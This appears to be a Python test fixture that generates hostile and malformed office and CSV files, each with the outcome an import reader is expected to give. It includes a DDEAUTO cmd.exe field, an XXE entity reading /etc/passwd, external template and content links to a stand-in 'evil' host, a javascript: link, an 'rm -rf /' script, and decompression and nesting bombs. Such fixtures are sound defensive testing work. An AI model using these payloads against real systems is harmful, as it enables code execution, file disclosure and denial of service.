"""Files nobody sends by accident, generated: name → bytes, and what is to become of them.

``READ``: the table comes out whole (with the text given); a code: refused with this problem.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from random import Random

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
READ = "read"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def packed(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def relations(*targets: tuple[str, str]) -> str:
    """A .rels part of external targets."""
    inner = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(targets, 1)
    )
    return f'<Relationships xmlns="{RELS}">{inner}</Relationships>'


def document(body: str, **more: str) -> bytes:
    """A .docx of a table 甲 and what else is given; ``more`` parts by their path's last word."""
    table = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    spaces = f'xmlns:w="{WORD}" xmlns:r="{OFFICE}"'
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": f"<w:document {spaces}><w:body>{body}{table}</w:body></w:document>",
            **{f"word/{name}": content for name, content in more.items()},
        }
    )


def sheet(body: str, **more: str | bytes) -> bytes:
    """A workbook whose one sheet's XML is given whole after its root's opening."""
    book = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>'
    rels = (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>'
    )
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": rels.replace("worksheet", "officeDocument", 1).replace(
            "worksheets/sheet1.xml", "xl/workbook.xml"
        ),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": rels,
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}">{body}</worksheet>',
    }
    return packed(parts | {name.replace("__", "/"): content for name, content in more.items()})


def ods(body: str, **more: str) -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
        for short in ("office", "table", "text")
    )
    content = (
        f'<office:document-content {spaces}><office:body><office:spreadsheet><table:table table:name="表">'
        f"{body}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    return packed({"mimetype": mime, "content.xml": content} | more)


CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>甲</t></is></c></row>'
DATA = f"<sheetData>{CELL}</sheetData>"
EVIL = "http://127.0.0.1:9/evil"
ODS = (
    "<table:table-row><table:table-cell{}><text:p>甲</text:p></table:table-cell></table:table-row>"
)


def field(code: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧值</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def nested(tag: str, depth: int, inside: str = "") -> str:
    return f"<{tag}>" * depth + inside + f"</{tag}>" * depth


def garbage(seed: int, size: int) -> bytes:
    """A compound file's header with a body of noise: broken chains, cycles, lengths beyond the end."""
    dice = Random(seed)
    head = OLE + bytes(16) + struct.pack("<4H", 0x3E, 3, 0xFFFE, dice.choice([9, 12, 30, 0]))
    head += struct.pack("<H", 6) + bytes(10)
    head += struct.pack("<2I", dice.choice([1, 2, 1 << 30]), dice.choice([0, 1, 0xFFFFFFF0]))
    head += bytes(4) + struct.pack("<4I", 4096, dice.choice([0, 2]), 1, 0xFFFFFFFE) + bytes(4)
    body = head.ljust(76, b"\0") + struct.pack("<I", dice.choice([0, 1, 5])) * 109
    return (body + dice.randbytes(size))[: 512 + size]


def word_cases() -> Iterator[tuple[str, bytes, str]]:
    template = relations(("attachedTemplate", f"{EVIL}.dotm"))
    yield "外部模板.docx", document("", **{"_rels/settings.xml.rels": template, "settings.xml": f'<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'}), READ  # fmt: skip
    both = relations(("image", f"{EVIL}.png"), ("hyperlink", "javascript:alert(1)"), ("aFChunk", f"{EVIL}.html"))  # fmt: skip
    link = '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>点我</w:t></w:r></w:hyperlink></w:p>'
    yield "外部图片和链接.docx", document(link, **{"_rels/document.xml.rels": both}), READ
    yield "外部内容块.docx", document('<w:altChunk r:id="rId3"/>', **{"_rels/document.xml.rels": both}), READ  # fmt: skip
    yield "DDE字段.docx", document(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), READ  # fmt: skip
    yield "包含外部图.docx", document(field(f'INCLUDEPICTURE "{EVIL}.png" \\d')), READ
    yield "简单字段.docx", document('<w:p><w:fldSimple w:instr="DDE cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'), READ  # fmt: skip
    yield "宏.docm", document("", **{"vbaProject.bin": "x" * 5000}), READ
    yield "嵌套表格.docx", document(nested("w:tbl><w:tr><w:tc", 800).replace("</w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")), READ  # fmt: skip
    yield "嵌套段落.docx", document(nested("w:sdt", 30_000)), READ
    yield "很多空表.docx", document("<w:tbl><w:tr><w:tc/></w:tr></w:tbl>" * 5_000), READ
    yield "外部实体.docx", packed({"word/document.xml": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{WORD}">&x;</w:document>'}), "xml_entities"  # fmt: skip


def sheet_cases() -> Iterator[tuple[str, bytes, str]]:
    yield "深层XML.xlsx", sheet(f"{DATA}<extLst>{nested('ext', 200_000)}</extLst>"), READ
    yield "深层富文本.xlsx", sheet(f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is>{nested("r", 50_000)}</is></c></row></sheetData>'), "empty_file"  # fmt: skip
    merges = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 60_000))
    yield "六万个合并.xlsx", sheet(f"{DATA}<mergeCells>{merges}</mergeCells>"), READ
    yield "条件格式.xlsx", sheet(DATA + '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression"><formula>1</formula></cfRule></conditionalFormatting>' * 20_000), READ  # fmt: skip
    yield "外部工作簿.xlsx", sheet(DATA, xl__externalLinks__externalLink1_xml="<externalLink/>"), READ  # fmt: skip
    yield "网页查询.xlsx", sheet(DATA, **{"xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1"><webPr url="{EVIL}"/></connection></connections>'}), READ  # fmt: skip
    yield "宏.xlsm", sheet(DATA, **{"xl/vbaProject.bin": OLE + b"x" * 4000}), READ
    yield "超长公式.xlsx", sheet(f'<sheetData>{CELL}<row r="2"><c r="A2"><f>{"A1+" * 300_000}1</f><v>1</v></c></row></sheetData>'), READ  # fmt: skip
    yield "超长字符串.xlsx", sheet(f'<sheetData>{CELL}<row r="2"><c r="A2" t="inlineStr"><is><t>{"长" * 3_000_000}</t></is></c></row></sheetData>'), READ  # fmt: skip
    yield "负的行号.xlsx", sheet('<sheetData><row r="-1"><c r="A-1"><v>1</v></c></row></sheetData>'), "damaged"  # fmt: skip
    yield "列号溢出.xlsx", sheet('<sheetData><row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row></sheetData>'), "reader_died"  # fmt: skip
    yield "UTF16.xlsx", sheet("", **{"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}">{DATA}</worksheet>'.encode("utf-16")}), READ  # fmt: skip
    yield "其实是csv.xlsx", "站点\n甲\n".encode(), "unsupported_type"
    yield "其实是xlsx.csv", sheet(DATA), READ
    yield "其实是xlsx.docx", sheet(DATA), READ
    yield "其实是docx.xlsx", document(""), READ
    yield "程序.xlsx", b"MZ\x90\0" + bytes(4000), "unsupported_type"
    yield "脚本.csv.xlsx", b"#!/bin/sh\nrm -rf /\n", "unsupported_type"


def other_cases() -> Iterator[tuple[str, bytes, str]]:
    yield "行重复.ods", ods(ODS.format("") + '<table:table-row table:number-rows-repeated="1048575"><table:table-cell/></table:table-row>'), READ  # fmt: skip
    yield "列重复.ods", ods(ODS.format(' table:number-columns-repeated="16384"')), READ
    yield "行列重复.ods", ods('<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16000"><text:p>甲</text:p></table:table-cell></table:table-row>'), "bomb"  # fmt: skip
    yield "负重复.ods", ods(ODS.format(' table:number-columns-repeated="-5"')), READ
    yield "大重复.ods", ods(ODS.format(' table:number-columns-repeated="99999999999999999999"')), "damaged"  # fmt: skip
    yield "深层.ods", ods(nested("table:table-row", 60_000)), "empty_file"
    yield "实体.ods", packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "xml_entities"  # fmt: skip
    yield "一行五兆.csv", b"x" * (5 << 20), "bomb"
    yield "二十万列.csv", b"x," * 200_000, "bomb"
    yield "不闭合引号.csv", b'a,"b\n' + b"c,d\n" * 100_000, "damaged"
    yield "引号吞了几行.csv", b'a,b,c\n1,"2,3\n4,5,6\n7,"8,9\n', "damaged"
    yield "标明UTF8却不是.csv", b"\xef\xbb\xbfa,b\n\xbc\xd7,c\n", READ  # two encodings joined
    yield "格里有换行.csv", '站点,内容,时长\n甲,"一\n二，三\n四",2\n'.encode(), READ
    yield "有零字节.csv", b"a,b\n\0\0,c\n", "damaged"
    yield "全是逗号.csv", b",,,,,\n" * 200_000, "empty_file"
    for seed in range(12):
        name = f"乱码{seed}.{('xls', 'et', 'doc', 'wps')[seed % 4]}"
        yield name, garbage(seed, (100, 5_000, 60_000)[seed % 3]), "garbage"
    yield "只有头.xls", OLE, "garbage"
    yield "密码.docx", OLE + bytes(600), "garbage"


def cases() -> list[tuple[str, bytes, str]]:
    return [*word_cases(), *sheet_cases(), *other_cases()]
